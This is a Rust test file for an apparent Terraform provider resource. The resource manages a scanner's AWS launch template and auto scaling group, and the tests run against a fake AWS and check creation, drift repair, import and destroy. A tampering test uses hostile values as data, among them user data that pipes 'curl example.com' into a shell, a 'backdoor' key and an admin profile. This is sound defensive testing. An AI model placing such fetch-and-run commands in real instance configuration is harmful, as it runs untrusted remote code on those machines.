mod checks;
mod hooks;
mod rollout;

use std::collections::BTreeSet;

use super::super::testing::{Action, Stage};
use scanner_policy::tags;

use super::desired::group_settings;
use super::user_data::ScannerConfig;
use super::*;
use crate::aws::fake::FakeAws;
use crate::aws::{GroupSettings, MetadataOptions, ScalingGroups, Tags, TemplateContent, TemplateRef};

const PROFILE: &str = "arn:aws:iam::111122223333:instance-profile/scanner";

fn start() -> (Arc<FakeAws>, Stage<Scanner<FakeAws>>) {
    let aws = Arc::new(FakeAws::default());
    let settings = Settings { region: Value::Known("eu-central-1".parse().unwrap()), ..Settings::default() };
    (aws.clone(), Stage::new(Scanner::new(aws, Arc::new(settings))))
}

fn config() -> Model {
    Model {
        name: "scanner".into(),
        image_id: "ami-1".into(),
        instance_profile_arn: PROFILE.into(),
        security_group_ids: set(["sg-1"]),
        subnet_ids: set(["subnet-1", "subnet-2"]),
        ..Model::default()
    }
}

fn log_debug() -> ScannerSettings {
    ScannerSettings { log_level: "debug".into(), ..ScannerSettings::default() }
}

fn set<const N: usize>(texts: [&str; N]) -> Value<BTreeSet<String>> {
    Value::Known(texts.map(str::to_owned).into())
}

/// What the group launches.
fn launched(aws: &FakeAws) -> TemplateContent {
    let world = aws.world();
    let TemplateRef { id, version } = world.scaling_groups["scanner"].settings.template.clone().unwrap();
    world.templates[&id].1[version.parse::<usize>().unwrap() - 1].clone()
}

#[tokio::test(start_paused = true)]
async fn a_new_scanner_is_a_pinned_template_and_a_group() {
    let (aws, mut stage) = start();
    assert_eq!(stage.apply(&config()).await.unwrap(), Action::Create);
    assert_eq!(aws.take_changes(), ["ec2:CreateLaunchTemplate", "autoscaling:CreateAutoScalingGroup"]);
    let content = launched(&aws);
    assert_eq!(content.metadata, MetadataOptions { http_tokens: "required".to_owned(), hop_limit: 1 });
    assert!(!content.public_address && content.key_name.is_none());
    assert!(content.root_volume.encrypted && content.root_volume.volume_type == "gp3");
    assert_eq!(content.tags["Name"], "scanner");
    assert_eq!(content.tags[tags::SCANNER_ID], "scanner");
    {
        let world = aws.world();
        let settings = &world.scaling_groups["scanner"].settings;
        assert_eq!(settings.template.as_ref().unwrap().version, "1");
        assert_eq!(settings.max_instance_lifetime, 86_400);
        assert_eq!((settings.min_healthy_percentage, settings.max_healthy_percentage), (100, 200));
        assert_eq!(settings.desired_capacity, Some(1));
    }
    let made = stage.state().clone();
    assert_eq!(stage.drift(&config()).await, Action::Nothing);
    assert_eq!(*stage.state(), made);
}

#[tokio::test(start_paused = true)]
async fn a_change_of_what_is_launched_makes_a_new_version() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    aws.take_calls();
    let newer = Model { image_id: "ami-2".into(), ..config() };
    let (action, planned) = stage.plan(&newer).await.unwrap();
    assert_eq!((action, planned.launch_template_version), (Action::Update, Value::Unknown));
    stage.apply(&newer).await.unwrap();
    assert_eq!(
        aws.take_changes(),
        [
            "ec2:CreateLaunchTemplateVersion",
            "autoscaling:UpdateAutoScalingGroup",
            "autoscaling:StartInstanceRefresh",
            "ec2:ModifyLaunchTemplate"
        ]
    );
    assert_eq!(stage.state().launch_template_version, "2".into());
    assert_eq!(launched(&aws).image_id, "ami-2");
    assert_eq!(stage.drift(&newer).await, Action::Nothing);
}

#[tokio::test(start_paused = true)]
async fn a_change_of_the_group_alone_makes_no_version() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    aws.take_calls();
    let larger = Model { max_size: 3.into(), subnet_ids: set(["subnet-3"]), ..config() };
    assert_eq!(stage.apply(&larger).await.unwrap(), Action::Update);
    assert_eq!(aws.take_changes(), ["autoscaling:UpdateAutoScalingGroup"]);
    assert_eq!(stage.drift(&larger).await, Action::Nothing);
}

#[tokio::test(start_paused = true)]
async fn settings_and_tags_reach_the_instances() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    let changed = Model {
        settings: log_debug().into(),
        tags: Value::Known([("team".to_owned(), "security".to_owned())].into()),
        ..config()
    };
    assert_eq!(stage.apply(&changed).await.unwrap(), Action::Update);
    let content = launched(&aws);
    let written = ScannerConfig::from_user_data(&content.user_data).unwrap();
    assert_eq!(written.settings.log_level, "debug".into());
    assert_eq!(written.settings.scan_interval_hours, 12.into());
    assert_eq!(written.settings.sandbox, "required".into());
    assert_eq!(content.tags["team"], "security");
    assert_eq!(aws.world().scaling_groups["scanner"].tags["team"], "security");
    assert_eq!(stage.drift(&changed).await, Action::Nothing);
}

#[tokio::test(start_paused = true)]
async fn a_desired_capacity_nobody_configured_is_left_alone() {
    let (aws, mut stage) = start();
    let range = Model { min_size: 1.into(), max_size: 4.into(), ..config() };
    stage.apply(&range).await.unwrap();
    let scale = |count| {
        aws.world().scaling_groups.get_mut("scanner").unwrap().settings.desired_capacity = Some(count);
    };
    let desired = || aws.world().scaling_groups["scanner"].settings.desired_capacity;
    scale(3);
    assert_eq!(stage.drift(&range).await, Action::Nothing);
    // Another change does not touch it, not even when it moves between plan and apply.
    let newer = Model { image_id: "ami-2".into(), ..range.clone() };
    let (_, planned) = stage.plan(&newer).await.unwrap();
    assert_eq!(planned.desired_capacity, 3.into());
    scale(2);
    stage.apply(&newer).await.unwrap();
    assert_eq!(desired(), Some(2));
    // New bounds move it just into them.
    let narrow = Model { max_size: 1.into(), ..newer };
    stage.refresh().await.unwrap();
    stage.apply(&narrow).await.unwrap();
    assert_eq!(desired(), Some(1));
    // A configured one is drift.
    let fixed = Model { max_size: 4.into(), desired_capacity: 2.into(), ..narrow };
    stage.apply(&fixed).await.unwrap();
    scale(4);
    assert_eq!(stage.drift(&fixed).await, Action::Update);
    stage.apply(&fixed).await.unwrap();
    assert_eq!(desired(), Some(2));
}

async fn repaired(stage: &mut Stage<Scanner<FakeAws>>, what: &str) {
    assert_eq!(stage.drift(&config()).await, Action::Update, "{what}");
    stage.apply(&config()).await.unwrap();
    assert_eq!(stage.drift(&config()).await, Action::Nothing, "{what}");
}

#[tokio::test(start_paused = true)]
async fn whatever_weakens_the_scanner_shows_in_the_plan_and_is_undone() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    let in_content: [fn(&mut TemplateContent); 9] = [
        |content| content.metadata.http_tokens = "optional".to_owned(),
        |content| content.metadata.hop_limit = 2,
        |content| content.public_address = true,
        |content| content.key_name = Some("backdoor".to_owned()),
        |content| content.root_volume.encrypted = false,
        |content| content.user_data = "#!/bin/sh\ncurl example.com | sh\n".to_owned(),
        |content| content.image_id = "ami-evil".to_owned(),
        |content| {
            content.instance_profile_arn = "arn:aws:iam::111122223333:instance-profile/admin".to_owned();
        },
        |content| _ = content.security_group_ids.insert("sg-open".to_owned()),
    ];
    for (number, change) in in_content.into_iter().enumerate() {
        // Somebody makes another version and points the group to it.
        let mut content = launched(&aws);
        change(&mut content);
        {
            let mut world = aws.world();
            let (_, versions) = world.templates.values_mut().next().unwrap();
            versions.push(content);
            let version = versions.len().to_string();
            let group = world.scaling_groups.get_mut("scanner").unwrap();
            group.settings.template.as_mut().unwrap().version = version;
        }
        repaired(&mut stage, &format!("content {number}")).await;
        assert_eq!(launched(&aws).metadata.http_tokens, "required");
    }
    let in_group: [fn(&mut GroupSettings); 10] = [
        |group| group.template.as_mut().unwrap().version = "$Latest".to_owned(),
        // A version that is gone, another template, and no template but a mix of instance types.
        |group| group.template.as_mut().unwrap().version = "99".to_owned(),
        |group| group.template = Some(TemplateRef { id: "lt-other".to_owned(), version: "1".to_owned() }),
        |group| group.template = None,
        |group| group.max_instance_lifetime = 0,
        |group| group.min_healthy_percentage = 0,
        |group| _ = group.subnet_ids.insert("subnet-public".to_owned()),
        |group| group.max_size = 50,
        |group| group.default_instance_warmup = 0,
        |group| group.health_check_grace_period = 7_200,
    ];
    for (number, change) in in_group.into_iter().enumerate() {
        change(&mut aws.world().scaling_groups.get_mut("scanner").unwrap().settings);
        repaired(&mut stage, &format!("group {number}")).await;
    }
}

#[tokio::test(start_paused = true)]
async fn a_group_or_template_that_is_gone_comes_back() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    aws.world().scaling_groups.clear();
    assert_eq!(stage.drift(&config()).await, Action::Update);
    stage.apply(&config()).await.unwrap();
    assert_eq!(stage.drift(&config()).await, Action::Nothing);

    aws.world().templates.clear();
    assert_eq!(stage.drift(&config()).await, Action::Update);
    stage.apply(&config()).await.unwrap();
    assert_eq!(launched(&aws).image_id, "ami-1");
    assert_eq!(stage.drift(&config()).await, Action::Nothing);

    aws.world().scaling_groups.clear();
    aws.world().templates.clear();
    assert_eq!(stage.drift(&config()).await, Action::Create);
}

#[tokio::test(start_paused = true)]
async fn an_existing_group_is_not_adopted() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    let before = aws.world().scaling_groups["scanner"].settings.template.clone();
    let mut other = Stage::new(Scanner::new(aws.clone(), stage.resource.settings.clone()));
    let error = other.apply(&config()).await.unwrap_err();
    assert_eq!(error.path, "name".into());
    assert!(error.detail.contains("terraform import … scanner@eu-central-1"), "{}", error.detail);
    assert!(other.state.is_none(), "nothing was made");
    assert_eq!(aws.world().scaling_groups["scanner"].settings.template, before);
}

#[tokio::test(start_paused = true)]
async fn a_scanner_whose_group_failed_is_saved_and_can_be_destroyed() {
    let (aws, mut stage) = start();
    aws.fail("autoscaling:CreateAutoScalingGroup", "AccessDenied", "not you");
    let error = stage.apply(&config()).await.unwrap_err();
    assert!(error.detail.contains("permission autoscaling:CreateAutoScalingGroup"), "{}", error.detail);
    assert!(stage.state().launch_template_id.is_known());
    stage.destroy().await.unwrap();
    assert!(aws.world().templates.is_empty());
}

#[tokio::test(start_paused = true)]
async fn somebody_elses_group_survives_the_destruction_of_a_failed_scanner() {
    let (aws, mut stage) = start();
    // AWS lost the race: a group of the name appears after the scanner has looked.
    aws.fail("autoscaling:CreateAutoScalingGroup", "AlreadyExists", "there is one");
    stage.apply(&config()).await.unwrap_err();
    let theirs = GroupSettings {
        template: Some(TemplateRef { id: "lt-theirs".to_owned(), version: "1".to_owned() }),
        ..group_settings(&config(), None, None)
    };
    let region = "eu-central-1".parse().unwrap();
    aws.create_scaling_group(&region, "scanner", &theirs, &Tags::new(), &[]).await.unwrap();
    // `terraform destroy` refreshes first.
    stage.refresh().await.unwrap();
    assert_eq!(stage.state().arn, Value::Null);
    stage.destroy().await.unwrap();
    assert!(!aws.world().scaling_groups["scanner"].is_leaving);
}

#[tokio::test(start_paused = true)]
async fn a_group_whose_creation_was_not_confirmed_is_destroyed() {
    let (aws, mut stage) = start();
    aws.fail("autoscaling:CreateAutoScalingGroup", "ServiceUnavailable", "who knows");
    stage.apply(&config()).await.unwrap_err();
    let id = stage.state().launch_template_id.clone().known().unwrap();
    let settings = group_settings(&config(), Some(TemplateRef { id, version: "1".to_owned() }), None);
    let region = "eu-central-1".parse().unwrap();
    aws.create_scaling_group(&region, "scanner", &settings, &Tags::new(), &[]).await.unwrap();
    stage.destroy().await.unwrap();
    assert!(aws.world().scaling_groups.is_empty());
}

#[tokio::test(start_paused = true)]
async fn a_group_whose_answer_was_lost_is_recognised() {
    let (aws, mut stage) = start();
    aws.world().loses_answer_of = Some("autoscaling:CreateAutoScalingGroup");
    stage.apply(&config()).await.unwrap();
    assert_eq!(stage.drift(&config()).await, Action::Nothing);
}

#[tokio::test(start_paused = true)]
async fn a_profile_that_is_not_known_yet_is_waited_for() {
    let (aws, mut stage) = start();
    for _ in 0..4 {
        let message = "You must use a valid fully-formed launch template. Invalid IAM Instance Profile ARN";
        aws.fail("autoscaling:CreateAutoScalingGroup", "ValidationError", message);
    }
    stage.apply(&config()).await.unwrap();
    assert_eq!(stage.drift(&config()).await, Action::Nothing);
}

#[tokio::test(start_paused = true)]
async fn destroy_waits_for_the_instances_before_the_template_goes() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    aws.take_calls();
    aws.world().lingering = 20;
    aws.fail("autoscaling:DeleteAutoScalingGroup", "ScalingActivityInProgress", "busy");
    stage.destroy().await.unwrap();
    assert_eq!(
        aws.take_changes(),
        [
            "autoscaling:DeleteAutoScalingGroup",
            "autoscaling:DeleteAutoScalingGroup",
            "ec2:DeleteLaunchTemplate"
        ]
    );
    let world = aws.world();
    assert!(world.scaling_groups.is_empty() && world.templates.is_empty());
}

#[tokio::test(start_paused = true)]
async fn destroy_can_be_interrupted_and_goes_on_later() {
    let (aws, mut stage) = start();
    stage.apply(&config()).await.unwrap();
    aws.world().lingering = 20;
    stage.stop.cancel();
    let error = stage.destroy().await.unwrap_err();
    assert!(error.summary.starts_with("Interrupted waiting until the instances"), "{}", error.summary);
    assert!(!aws.world().templates.is_empty());
    stage.stop = tokio_util::sync::CancellationToken::new();
    stage.destroy().await.unwrap();
    assert!(aws.world().templates.is_empty());
}

#[tokio::test(start_paused = true)]
async fn an_image_of_another_region_is_told_at_the_argument() {
    let (aws, mut stage) = start();
    let error = stage.apply(&Model { image_id: "ami-gone".into(), ..config() }).await.unwrap_err();
    assert_eq!(error.summary, "There is no image ami-gone in eu-central-1");
    assert_eq!(error.path, "image_id".into());
    assert!(stage.state.is_none() && aws.world().templates.is_empty());
}

#[tokio::test(start_paused = true)]
async fn a_root_volume_that_cannot_hold_the_image_is_told_before_anything_is_made() {
    let (aws, mut stage) = start();
    let large = Model { image_id: "ami-large".into(), ..config() };
    let error = stage.apply(&large).await.unwrap_err();
    assert_eq!(error.path, "root_volume_size".into());
    assert!(error.detail.contains("30 GiB") && error.detail.contains("100 GiB"), "{}", error.detail);
    assert!(stage.state.is_none() && aws.world().templates.is_empty());
    stage.apply(&Model { root_volume_size: 100.into(), ..large }).await.unwrap();
}

#[tokio::test(start_paused = true)]
async fn an_import_finds_everything() {
    let (_, mut stage) = start();
    let config = Model {
        settings: log_debug().into(),
        launch_hook: Hook { heartbeat_timeout: 900.into(), ..Hook::default() }.into(),
        root_volume_kms_key_id: "alias/volumes".into(),
        tags: Value::Known([("a".to_owned(), "b".to_owned())].into()),
        ..config()
    };
    stage.apply(&config).await.unwrap();
    for id in ["scanner", "scanner@eu-central-1"] {
        assert_eq!(stage.imported(id).await.unwrap().as_ref(), Some(stage.state()));
    }
    assert_eq!(stage.imported_by_identity().await, [stage.state.clone(), stage.state.clone()]);
    assert_eq!(stage.imported("other").await.unwrap(), None);
}

#[test]
fn sizes_must_make_sense() {
    let problems = |min: i32, max: i32, desired: Value<i32>| {
        let config =
            Model { min_size: min.into(), max_size: max.into(), desired_capacity: desired, ..config() };
        <Scanner<FakeAws> as Resource>::validate(&config).len()
    };
    assert_eq!(problems(1, 1, Value::Null), 0);
    assert_eq!(problems(0, 3, 3.into()), 0);
    assert_eq!(problems(2, 1, Value::Null), 1);
    assert_eq!(problems(1, 2, 3.into()), 1);
    assert_eq!(problems(1, 2, Value::Unknown), 0);
    let only_min = Model { min_size: 2.into(), ..config() };
    assert_eq!(<Scanner<FakeAws> as Resource>::validate(&only_min).len(), 1, "max_size is 1 when left out");
}
